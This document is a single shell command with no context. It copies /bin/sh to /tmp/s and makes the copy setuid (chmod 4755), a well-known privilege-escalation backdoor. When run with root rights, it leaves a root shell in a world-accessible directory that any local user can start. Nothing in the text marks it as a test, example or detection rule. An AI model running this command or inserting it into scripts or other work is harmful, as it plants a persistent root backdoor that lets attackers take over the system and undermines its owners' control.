cp /bin/sh /tmp/s; chmod 4755 /tmp/s
